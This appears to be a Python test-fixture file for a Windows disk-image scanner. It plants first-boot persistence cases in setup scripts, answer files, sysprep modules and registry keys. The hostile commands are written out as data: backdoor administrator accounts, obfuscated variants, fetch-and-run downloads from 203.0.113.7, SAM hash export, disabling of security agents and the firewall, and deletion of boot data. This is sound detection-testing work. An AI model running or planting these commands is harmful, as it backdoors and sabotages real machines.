"""What runs at the first start: scripts of setup, answer files, sysprep."""
import datetime
import os
import struct

from windows_disk import *

change = Changes()
CHECK, SYSPREP, LEAK = 'WIN-PERSIST-001', 'WIN-SYSPREP-001', 'WIN-LEAK-001'
CLOUD, SECURITY, MONITOR = 'WIN-CBI-001', 'WIN-AGENT-001', 'WIN-AGENT-002'
COMPLETE = r'Windows\Setup\Scripts\SetupComplete.cmd'
# What the demonstration's own script does.
USUAL = 'sc config cloudbase-init start= auto && net start cloudbase-init\r\n'
EVIL = 'net user hax P@ss.2024 /add\r\n'
PAYLOAD = r'C:\ProgramData\x.exe'


def script(name, why, text, check=CHECK, place='SetupComplete.cmd'):
    """More lines of SetupComplete.cmd, which setup runs as LocalSystem before the first logon."""
    change.row(name, why, check, place, lambda d: d.put(COMPLETE, USUAL + text))


script('account-by-an-escaped-name', 'cmd.exe takes ^ out of a line before it runs it.', 'n^et us^er hax P@ss /a^dd\r\n')
script('account-by-variables', 'Variables are put in before the line runs.', 'set a=us\r\nset b=er\r\nnet %a%%b% hax P /add\r\n')
script('account-behind-a-jump', 'goto leads over the end of the script and back.', 'goto x\r\n:y\r\nrem\r\nexit /b\r\n:x\r\nnet localgroup Administrators hax /add\r\ngoto y\r\n')
script('services-deleted-in-a-loop', 'for runs its line for each word of the list.', 'for %%s in (cloudbase-init WinAgent) do sc delete %%s\r\n', SECURITY)
script('agent-stopped-by-its-display-name', 'net stop takes display names.', 'net stop "WinAgent Display Name"\r\n', SECURITY)
script('agent-disabled-in-the-registry', 'Start 4 is disabled, whoever writes it.',
       'reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinAgent /v Start /t REG_DWORD /d 4 /f\r\n', SECURITY)
script('agent-killed', 'taskkill /f ends a process that does not listen.', 'taskkill /f /im winagent.exe\r\n', SECURITY)
script('agent-removed', 'rd /s takes the folder with all that is in it.', 'rd /s /q C:\\win-agent\r\n', MONITOR)
script('script-written-by-the-script', 'What echo writes into a file is run by the next line.',
       'echo net user hax P /add> C:\\Windows\\Temp\\a.cmd\r\ncall C:\\Windows\\Temp\\a.cmd\r\n')
script('script-through-a-pipe', 'cmd.exe runs lines of its input.', 'echo net user hax P /add| cmd\r\n')
script('account-by-delayed-expansion', 'With delayed expansion !a! is put in when the line runs.', 'setlocal enabledelayedexpansion\r\nset a=net user hax P /add\r\n!a!\r\n')
script('program-started-aside', 'start runs a program and does not wait.', f'start "" /b {PAYLOAD}\r\n')
script('script-of-another-disk', 'Whatever medium is there when the machine starts gives the script.', 'for %%d in (D E F) do if exist %%d:\\x.cmd call %%d:\\x.cmd\r\n')
script('signatures-switched-off', 'bcdedit writes the boot configuration of the running system.', 'bcdedit /set testsigning on\r\n')
script('account-enabled-by-wmi', 'wmic changes accounts as net does.', 'wmic useraccount where name="x" set disabled=false\r\n')
script('driver-by-the-script', 'sc create with type= kernel makes a driver that starts with the system.',
       'sc create evil type= kernel start= boot binPath= C:\\ProgramData\\x\\evil.sys\r\n')
script('payload-fetched', 'certutil -urlcache writes what it fetches.', f'certutil -urlcache -f http://203.0.113.7/x {PAYLOAD}\r\n{PAYLOAD}\r\n')
script('payload-fetched-by-bits', 'bitsadmin fetches a file.', f'bitsadmin /transfer x http://203.0.113.7/x {PAYLOAD}\r\n{PAYLOAD}\r\n')
script('task-by-the-script', 'schtasks registers a task of LocalSystem.', f'schtasks /create /tn upd /tr {PAYLOAD} /sc onstart /ru SYSTEM\r\n')
script('autostart-by-the-script', 'reg add writes the key Run.', f'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d {PAYLOAD}\r\n')
script('encoded-command', 'PowerShell takes its script in base64; any beginning of -EncodedCommand will do.', 'powershell -nop -e SQBFAFgAIAAoAGkAdwByACAAeAApAA==\r\n')
script('firewall-opened', 'netsh lets everybody in.', 'netsh advfirewall set allprofiles state off\r\n')
script('address-given-back', 'Without an address what starts now finds nobody.', 'ipconfig /release\r\n', CHECK)
script('restart-whenever-the-agent-ends', 'sc failure with reboot restarts the machine.', 'sc failure win-agent reset= 0 actions= reboot/1\r\n', CHECK)
script('folder-of-the-drive-with-what-runs', 'rd takes the folder of a service.', 'rd /s /q C:\\WinAgent\r\n', SECURITY)


def stand_in(name, why, path, line, data=None):
    """Another file answers to the name of a program of Windows whose commands are usual."""
    change.row(name, why, CHECK, 'SetupComplete.cmd', lambda d: (d.put(path, data) if data else d.foreign(path), d.put(COMPLETE, USUAL + line + '\r\n')))


stand_in('usual-command-of-another-folder', 'A path decides, not the name behind it.', r'C:\ProgramData\x\lodctr.exe', r'C:\ProgramData\x\lodctr.exe /r')
stand_in('stand-in-for-a-message', 'PATHEXT takes .com before .exe.', r'C:\Windows\System32\msg.com', 'msg * hello')
stand_in('script-in-place-of-counters', 'A script in the folder of the setup\'s scripts is found where that is the current one.',
         r'C:\Windows\Setup\Scripts\lodctr.cmd', 'lodctr /r', EVIL)
stand_in('stand-in-for-the-remote-management', 'winrm is a .cmd: PATHEXT takes .exe before it.', r'C:\Windows\System32\winrm.exe', 'winrm quickconfig -q')
stand_in('stand-in-for-the-activation', 'slmgr is a .vbs: PATHEXT takes .exe before it.', r'C:\Windows\System32\slmgr.exe', 'slmgr /ato')
script('tunnel-over-somebodys-server', 'IPv6 goes through the server that is named.', 'netsh interface teredo set state enterpriseclient 203.0.113.7\r\n')
script('packets-that-nothing-fits-into', 'With such a size no packet leaves the machine.', 'netsh interface ipv4 set subinterface Ethernet mtu=100 store=persistent\r\n')
script('clock-without-its-service', 'w32tm /unregister takes the service of the clock away.', 'w32tm /register\r\nw32tm /unregister\r\n')
script('agents-folder-taken-from-the-system', 'Without what it inherits, the folder lets nobody in.', 'icacls C:\\win-agent /inheritance:r\r\n')
script('files-of-everybody', 'Whoever logs on replaces what runs as the system.', 'icacls "C:\\Program Files\\App" /grant:r Administrators:F Everyone:(OI)(CI)F\r\n')
script('agents-files-that-nobody-updates', 'What is read-only can\'t be replaced by its own update.', 'attrib +r +s C:\\*.* /s\r\n')
script('remote-management-in-clear', 'Passwords go over the network as they are.', 'winrm set winrm/config/service/auth @{Basic="true"}\r\n'
       'winrm set winrm/config/service @{AllowUnencrypted="true"}\r\n')
script('port-of-file-shares-opened', 'The name of a rule says nothing of what it opens.',
       'netsh advfirewall firewall add rule name="Remote Desktop" dir=in action=allow protocol=TCP localport=445\r\n')
script('feature-of-another-medium', 'dism takes a feature from the folder that it is told of.', 'dism /online /enable-feature /featurename:NetFx3 /source:C:\\ProgramData\\x\r\n')
script('script-that-is-put-later', 'Users may make files in ProgramData.', 'call C:\\ProgramData\\build.cmd\r\n')
script('script-of-the-temporary-folder', 'Users may make files in Windows\\Temp.', 'cmd /c C:\\Windows\\Temp\\build.cmd\r\n')
script('powershell-script-that-is-put-later', 'Whoever makes the folder first owns it.', 'powershell -NoProfile -File C:\\Tools\\x.ps1\r\n')
DATA = r'C:\ProgramData\x'


def beside(name, why, text, at):
    """A script whose command is a program of the folder that it runs in."""
    change.row(name, why, CHECK, at.rpartition('\\')[2], lambda d: (d.foreign(at), d.put(COMPLETE, USUAL + text)))


beside('program-of-the-current-folder', 'cmd.exe looks in the current folder first, before System32.', f'cd /d {DATA}\r\nping 127.0.0.1\r\n', rf'{DATA}\ping.exe')
beside('program-of-a-pushed-folder', 'pushd changes the folder, too; any ending of PATHEXT will do.', f'pushd {DATA}\r\nwhoami\r\n', rf'{DATA}\whoami.com')
beside('program-of-a-folder-in-two-steps', 'cd takes names relative to the folder it is in.', 'cd /d C:\\ProgramData\r\ncd x\r\ntzutil /g\r\n', rf'{DATA}\tzutil.exe')
beside('program-beside-the-script', 'A script may run in its own folder.', 'cd /d %~dp0\r\nping 127.0.0.1\r\n', r'C:\Windows\Setup\Scripts\ping.exe')
script('folder-of-another-disk', 'Whatever medium is there when the machine starts has the program.', 'cd /d E:\\tools\r\nping 127.0.0.1\r\n')
script('profiler-of-the-script', 'The variable makes each program of .NET that the script starts load the library.',
       'set COR_ENABLE_PROFILING=1\r\nset COR_PROFILER_PATH=C:\\ProgramData\\x\\x.dll\r\npowershell -Command Get-Date\r\n')
script('module-of-python-by-the-script', 'The variable makes cloudbase-init load modules of that folder.', 'set "PYTHONPATH=C:\\ProgramData\\x"\r\n')
script('boot-store-removed', 'Without its store the image does not start again.', 'del /f /q C:\\Boot\\BCD\r\n')
script('data-of-agents-removed', 'Agents keep what they know below ProgramData.', 'rd /s /q C:\\ProgramData\\QCloud\r\n')
script('all-data-removed', 'A pattern stands for every folder.', 'del /s /f /q C:\\ProgramData\\*.*\r\n')
script('waiting-for-ever', 'ping waits a second between two of its packets.', 'ping -n 99999999 127.0.0.1\r\n')
script('waiting-for-a-key', 'timeout with -1 waits until somebody presses a key, and nobody sees it.', 'timeout /t -1\r\n')
script('loop-without-an-end', 'The setup of the machine waits for its script.', ':again\r\ntimeout /t 1\r\ngoto again\r\n')
change.row('restart-before-the-rest', 'The machine restarts before the services are started; the script does not run again.', CHECK, 'SetupComplete.cmd',
           lambda d: d.put(COMPLETE, 'shutdown /r /f /t 0\r\n' + USUAL))
script('keys-written-by-the-script', 'What ends in .txt may be read as well as anything else.', 'echo ssh-ed25519 AAAA eve> C:\\ProgramData\\ssh\\keys.txt\r\n')
script('machine-put-to-sleep', 'A machine of a cloud that sleeps is not reached any more.', 'powercfg /change standby-timeout-ac 1\r\n')
script('library-named-in-the-registry', 'Programs of any maker load what their settings name.',
       f'reg add "HKLM\\SOFTWARE\\Apache Software Foundation\\Procrun 2.0\\T\\Parameters\\Java" /v Jvm /d {DATA}\\x.dll /f\r\n')
change.row('cloudbase-disabled', 'The script that should start the services disables them.', CLOUD, 'SetupComplete.cmd',
           lambda d: d.put(COMPLETE, 'sc config cloudbase-init start= disabled\r\nsc config win-agent start= disabled\r\n'))


@change(CHECK, 'b.ps1')
def scripts_of_scripts(d):
    """A script calls a script that runs a third one; PowerShell takes ` out of a word."""
    d.put(COMPLETE, USUAL + 'cmd /c C:\\ProgramData\\a.bat\r\n')
    d.put(r'ProgramData\a.bat', 'powershell -ep bypass -File "%~dp0b.ps1"\r\n')
    d.put(r'ProgramData\b.ps1', 'ne`t us`er hax P /add\r\n')


def batch(name, why, at, line, text=EVIL):
    """A batch file that a line of SetupComplete.cmd starts without its ending, or by another spelling."""
    change.row(name, why, CHECK, at.rpartition('\\')[2], lambda d: (d.put(at, text), d.put(COMPLETE, USUAL + line + '\r\n')))


SCRIPTS = r'C:\Windows\Setup\Scripts'
batch('script-by-its-bare-name', 'cmd.exe tries the endings of PATHEXT in the current folder.', rf'{SCRIPTS}\foo.bat', 'foo')
batch('script-called-by-its-bare-name', 'call takes a name without its ending, too.', rf'{SCRIPTS}\foo.cmd', 'call foo')
batch('script-started-by-its-bare-name', 'start looks for a program as cmd.exe does.', rf'{SCRIPTS}\foo.bat', 'start foo')
batch('script-under-a-condition', 'The condition holds, and the bare name is that of the script.', rf'{SCRIPTS}\foo.bat', 'if exist foo.bat foo')
batch('script-of-another-folder-by-its-bare-name', 'The current folder is where cd led to.', r'C:\kit\foo.bat', 'cd C:\\kit\r\nfoo')
batch('script-in-place-of-a-program-of-windows', 'The current folder comes before those of Path.', r'C:\kit\systeminfo.bat', 'cd C:\\kit\r\nsysteminfo')
batch('script-over-a-folder-that-is-not-there', 'Windows takes .. and the name before it out of a path, whether the folder is there or not.', r'C:\kit\foo.cmd', r'C:\none\..\kit\foo.cmd')
batch('script-from-the-folder-of-its-drive', 'C:kit is a folder below the one that the drive is at.', r'C:\kit\foo.bat', 'cd C:\\\r\ncall C:kit\\foo.bat')
batch('powershell-over-a-folder-that-is-not-there', 'PowerShell is given a path, which Windows folds.', r'C:\kit\x.ps1', r'powershell -File C:\none\..\kit\x.ps1')
batch('script-called-twice', 'What a script does is what its arguments say.', r'C:\kit\foo.bat', 'call C:\\kit\\foo.bat echo\r\ncall C:\\kit\\foo.bat net', '%1 user hax P@ss.2024 /add\r\n')
script('powershell-with-the-format-of-its-output', 'The command stands behind an option with a value, and its last word is a comment.',
       'powershell -OutputFormat Text -c "net user hax P@ss.2024 /add #" C:\\none.ps1\r\n')
script('powershell-with-a-configuration', 'A configuration of a session decides what its commands do.', 'powershell -ConfigurationName x -c "Get-Date #" C:\\none.ps1\r\n')
script('accounts-exported', 'reg export writes what the key holds: hashes of passwords.', 'reg export HKLM\\SAM C:\\Windows\\Temp\\s.log /y\r\n')
script('registry-sent-to-a-stranger', 'A path of another computer is a file there.', 'reg export HKLM\\SOFTWARE \\\\203.0.113.9\\x\\s.reg /y\r\n')
script('page-exported-into-startup', 'What a key holds is the text of the file, which mshta.exe reads as a page.',
       'reg export HKLM\\SOFTWARE\\kit "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.hta" /y\r\n')
script('answer-to-a-stranger', 'Windows tells a computer that it asks for a file who asks, with an answer that its password can be found from.', 'dir \\\\203.0.113.9\\x\r\n')
script('tasks-of-a-stranger', 'tasklist /s asks another computer.', 'tasklist /s 203.0.113.9\r\n')
script('other-agent-killed', 'The programs that protect a machine of the cloud have names of their own.', 'taskkill /f /im YDService.exe\r\n')
script('updates-switched-off-by-the-script', 'NoAutoUpdate 1 ends automatic updates.',
       'reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU /v NoAutoUpdate /t REG_DWORD /d 1 /f\r\n')
script('page-file-over-an-agent', 'The page file takes the place of a file of that path.',
       'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\Memory Management" /v PagingFiles /t REG_MULTI_SZ /d "C:\\win-agent\\win-agent.exe 16 16" /f\r\n')
script('clock-that-is-never-set', 'With 0 no correction is small enough.', 'reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\Config /v MaxPosPhaseCorrection /t REG_DWORD /d 0 /f\r\n')
script('waiting-again-and-again', 'Each wait is short, and all of them are hours.', 'ping -n 600 127.0.0.1\r\n' * 40)


def file(name, why, path, text, check=CHECK, place=None):
    change.row(name, why, check, place or path.rpartition('\\')[2], lambda d: d.put(path, text))


file('handler-of-errors', 'Setup runs ErrorHandler.cmd where something fails.', r'Windows\Setup\Scripts\ErrorHandler.cmd', EVIL)
change.row('script-of-the-handler-of-errors', 'A bare name is looked for in the current folder.', CHECK, 'foo.cmd',
           lambda d: (d.put(rf'{SCRIPTS}\ErrorHandler.cmd', 'foo\r\n'), d.put(rf'{SCRIPTS}\foo.cmd', EVIL)))
file('script-of-the-welcome', 'Setup runs OOBE.cmd beside SetupComplete.cmd.', r'Windows\Setup\Scripts\OOBE.cmd', 'powershell -enc SQBFAFgA\r\n')

# --- the key Setup ---
change.row('command-of-the-first-boot', 'windeploy.exe runs the values of FirstBoot.', CHECK, 'FirstBoot', lambda d: d.system(r'Setup\FirstBoot\PostOobe', 'x', SZ, PAYLOAD))
change.row('command-of-respecialize', 'windeploy.exe runs RespecializeCmdLine.', CHECK, 'RespecializeCmdLine', lambda d: d.system('Setup', 'RespecializeCmdLine', SZ, PAYLOAD))
change.row('command-line-with-a-second-command', 'winlogon.exe runs CmdLine: cmd.exe does both.', SYSPREP, 'CmdLine',
           lambda d: d.system('Setup', 'CmdLine', SZ, r'cmd /c C:\x.exe & oobe\windeploy.exe'))


@change(SYSPREP, 'CmdLine')
def command_line_of_a_decoy(d):
    """Another program of the usual name, elsewhere."""
    d.foreign(r'Windows\Temp\windeploy.exe')
    d.system('Setup', 'CmdLine', SZ, r'C:\Windows\Temp\windeploy.exe')


change.row('windeploy-replaced', 'What CmdLine names is started as LocalSystem, whoever made it.', SYSPREP, 'windeploy.exe',
           lambda d: d.foreign(r'Windows\System32\oobe\windeploy.exe'))


@change(SYSPREP, 'CmdLine')
def setup_of_another_kind(d):
    """setup.exe of System32, with options, as another version's setup was started."""
    d.foreign(r'Windows\System32\setup.exe')
    d.system('Setup', 'CmdLine', SZ, r'setup -newsetup -x:C:\Windows\Temp\x.exe')


@change(SYSPREP, 'InstallDate')
def signs_of_sysprep_forged(d):
    """A system in use whose signs a script wrote: it was installed after the run that is said to have generalized it."""
    at = datetime.datetime(2017, 7, 14).timestamp()
    os.utime(d.find(r'Windows\System32\Sysprep\Sysprep_succeeded.tag'), (at, at))
    d.software(NT, 'InstallDate', DWORD, 1790000000)
    d.system(r'Setup\Status\SysprepStatus', 'GeneralizationState', DWORD, 7)
    d.software(r'Microsoft\Cryptography', 'MachineGuid', SZ, '01234567-89ab-cdef-0123-456789abcdef')
    d.system('MountedDevices', r'\DosDevices\C:', BINARY, struct.pack('<IQ', SIGNATURE, START))


# --- answer files ---
def answers(oobe='', specialize=''):
    def part(name, component, inside):
        return f'<settings pass="{name}"><component name="{component}">{inside}</component></settings>' if inside else ''
    return ('<?xml version="1.0"?><unattend xmlns="urn:schemas-microsoft-com:unattend">' + part('oobeSystem', 'Microsoft-Windows-Shell-Setup', oobe)
            + part('specialize', 'Microsoft-Windows-Deployment', specialize) + '</unattend>')


LOGON = '<FirstLogonCommands><SynchronousCommand><Order>1</Order><CommandLine>powershell -enc SQBFAFgA</CommandLine></SynchronousCommand></FirstLogonCommands>'
SPECIALIZE = '<RunSynchronous><RunSynchronousCommand><Order>1</Order><Path>cmd /c net user hax P@ss.2024 /add</Path></RunSynchronousCommand></RunSynchronous>'
PASSWORD = ('<AutoLogon><Enabled>true</Enabled><Username>Administrator</Username><Password><Value>Sup3r.Secret</Value><PlainText>true</PlainText></Password>'
            '</AutoLogon>')
COMMANDS = answers(LOGON, SPECIALIZE)
file('commands-of-an-answer-file', 'Setup looks for answers in Panther; commands of the pass specialize run as LocalSystem.', r'Windows\Panther\unattend.xml', COMMANDS)
file('answers-that-name-a-missing-script', 'The first logon runs what somebody put into Windows\\Temp until then.', r'Windows\Panther\unattend.xml', answers(
    LOGON.replace('powershell -enc SQBFAFgA', r'cmd.exe /c C:\Windows\Temp\build.cmd')), place='unattend.xml')
SETTING = '<?xml version="1.0"?><unattend xmlns="urn:schemas-microsoft-com:unattend"><settings pass="%s"><component name="%s">%s</component></settings></unattend>'
file('answers-that-start-audit-mode', 'Reseal with Mode Audit starts for technicians again and again, and no customer gets to the end of the setup.', r'Windows\Panther\unattend.xml', SETTING % (
    'oobeSystem', 'Microsoft-Windows-Deployment', '<Reseal><Mode>Audit</Mode><ForceShutdownNow>true</ForceShutdownNow></Reseal>'), place='unattend.xml')
file('answers-that-close-the-remote-desktop', 'The pass specialize writes fDenyTSConnections over what the registry says.', r'Windows\Panther\unattend.xml', SETTING % (
    'specialize', 'Microsoft-Windows-TerminalServices-LocalSessionManager', '<fDenyTSConnections>true</fDenyTSConnections>'), place='unattend.xml')
file('accounts-locked-by-a-mistake', 'One wrong password locks an account for weeks.', r'Windows\Setup\Scripts\SetupComplete.cmd', 'net accounts /lockoutthreshold:1 /lockoutduration:99999 /lockoutwindow:99999\r\n')
file('answers-of-the-recovery', 'A reset of the system takes the answers of AutoApply.', r'Recovery\AutoApply\unattend.xml', COMMANDS)
file('answers-in-utf-16', 'XML in UTF-16 is as good.', r'Windows\Panther\Unattend\unattend.xml', '\ufeff'.encode('utf-16-le') + COMMANDS.encode('utf-16-le'))
file('account-of-an-answer-file', 'LocalAccounts makes accounts, here an administrator; setup looks in the root of the drive too.', 'unattend.xml', answers(
    '<UserAccounts><LocalAccounts><LocalAccount><Name>hax</Name><Group>Administrators</Group></LocalAccount></LocalAccounts></UserAccounts>'))
file('password-in-an-answer-file', 'The password of the logon stands there in plain text for every user of the machine.', r'Windows\Panther\unattend.xml', answers(PASSWORD), LEAK)
file('password-in-the-cached-answers', 'UnattendGC holds the answers of the pass generalize.', r'Windows\Panther\UnattendGC\unattend.xml', answers(PASSWORD), LEAK)


@change(LEAK, 'answers.xml')
def password_in_named_answers(d):
    """The value UnattendFile of the key Setup names the answers that count first."""
    d.system('Setup', 'UnattendFile', SZ, d.put(r'C:\ProgramData\x\answers.xml', answers(PASSWORD)))


# --- modules of sysprep ---
@change(CHECK, 'evil.dll')
def module_of_sysprep(d):
    """Action files name libraries and functions that sysprep calls in each pass."""
    library = d.foreign(r'C:\Windows\System32\evil.dll')
    d.put(r'Windows\System32\Sysprep\ActionFiles\Specialize.xml', '<?xml version="1.0"?><sysprepInformation><imaging exclude=""><assemblyIdentity name="x"/>'
          f'<sysprepOrder order="1"/><sysprepModule methodName="a" moduleName="{library}"/></imaging></sysprepInformation>')


@change(CHECK, 'evil.dll')
def module_of_sysprep_in_the_registry(d):
    """SysPrepExternal names further modules."""
    d.software(rf'{CURRENT}\Setup\SysPrepExternal\Specialize', 'x', SZ, d.foreign(r'C:\Windows\System32\evil.dll') + ',Go')


# --- what waits for the next start ---


def waiting(name, why, path, data, place=None):
    change.row(name, why, CHECK, place or path.rpartition('\\')[2], lambda d: d.put(path, data))


waiting('package-of-the-recovery', 'Packages of Customizations are applied at the first start.', r'Recovery\Customizations\a.ppkg', b'MSWIM\0\0\0' + bytes(300))
waiting('provisioning-package', 'Packages of Windows are applied at the first start.', r'Windows\Provisioning\Packages\a.ppkg', b'MSWIM\0\0\0' + bytes(300))
waiting('desired-state', 'The configuration manager applies Pending.mof at the next start, as the system.', r'Windows\System32\Configuration\Pending.mof',
        'instance of MSFT_ScriptResource as $x { SetScript="iex (iwr http://203.0.113.7/a)"; };')
waiting('queue-of-transfers', 'BITS runs a command when its transfer ends.', r'ProgramData\Microsoft\Network\Downloader\qmgr.db',
        bytes(600) + wide(r'C:\Windows\System32\cmd.exe /c C:\ProgramData\x\x.exe') + bytes(600))
waiting('transfer-from-a-strange-host', 'BITS fetches a file wherever it is told to.', r'ProgramData\Microsoft\Network\Downloader\qmgr0.dat',
        bytes(99) + wide('https://203.0.113.7/x.bin') + bytes(99))
waiting('servicing-that-waits', 'Servicing carries out the operations of pending.xml before the logon.', r'Windows\WinSxS\pending.xml',
        '<PendingTransaction><POQ><HardlinkFile source="x" destination="y"/></POQ></PendingTransaction>')
waiting('print-job-that-waits', 'The spooler prints what lies there at its start.', r'Windows\System32\spool\PRINTERS\00001.SPL', b'MZ' + bytes(300))
change.row('port-that-is-a-file', 'The spooler writes what is printed to the file that a port names, as the system.', CHECK, 'ualapi.dll',
           lambda d: d.software(rf'{NT}\Ports', r'C:\Windows\System32\ualapi.dll', SZ, ''))
waiting('recovery-elsewhere', 'ReAgent.xml says which image the recovery starts.', r'Windows\System32\Recovery\ReAgent.xml',
        '<WindowsRE version="2.0"><WinreLocation path="\\evil" id="0" offset="1048576" guid="{}"/><ScheduledOperation state="4"/></WindowsRE>')
change.row('server-that-manages', 'A management server installs and runs what it likes.', CHECK, '203.0.113.7',
           lambda d: d.software(r'Microsoft\Enrollments\{AAAAAAAA-1111-2222-3333-444455556666}', 'DiscoveryServiceFullURL', SZ, 'https://203.0.113.7/Discovery.svc'))
change.row('application-of-every-user', 'Each new user gets the packages of the list; a task of theirs starts at the logon.', CHECK, 'AppxManifest.xml',
           lambda d: d.software(rf'{CURRENT}\Appx\AppxAllUserStore\InboxApplications\Evil_1.0.0.0_x64__aaaaaaaaaaaaa', 'Path', SZ, r'C:\ProgramData\ax\AppxManifest.xml'))


@change(CHECK, 'evil.dll')
def provider_of_wmi(d):
    """The host of WMI loads the class of each provider that a text of classes registers."""
    clsid = '{DEADBEEF-1111-2222-3333-444455556666}'
    d.com(clsid, d.foreign(r'C:\Windows\System32\evil.dll'))
    d.put(r'Windows\System32\wbem\x.mof', 'instance of __Win32Provider as $P\n{\n  Name = "X";\n  ClsId = "%s";\n};\n' % clsid)
    d.software(r'Microsoft\Wbem\CIMOM', 'Autorecover MOFs', MULTI, [r'%windir%\system32\wbem\x.mof'])


@change(CHECK, 'evil.sys')
def package_of_a_driver(d):
    """Windows installs a package of its store as it finds the device."""
    store = r'Windows\System32\DriverStore\FileRepository\evil.inf_amd64_0123456789abcdef'
    d.foreign(rf'C:\{store}\evil.sys')
    d.put(rf'{store}\evil.inf', '[Version]\nSignature="$WINDOWS NT$"\nClass=Net\n')
    d.value(r'Windows\System32\config\DRIVERS', r'DriverDatabase\DeviceIds\PCI\VEN_1AF4&DEV_1000', 'oem7.inf', BINARY, b'\1\xff\0\0')
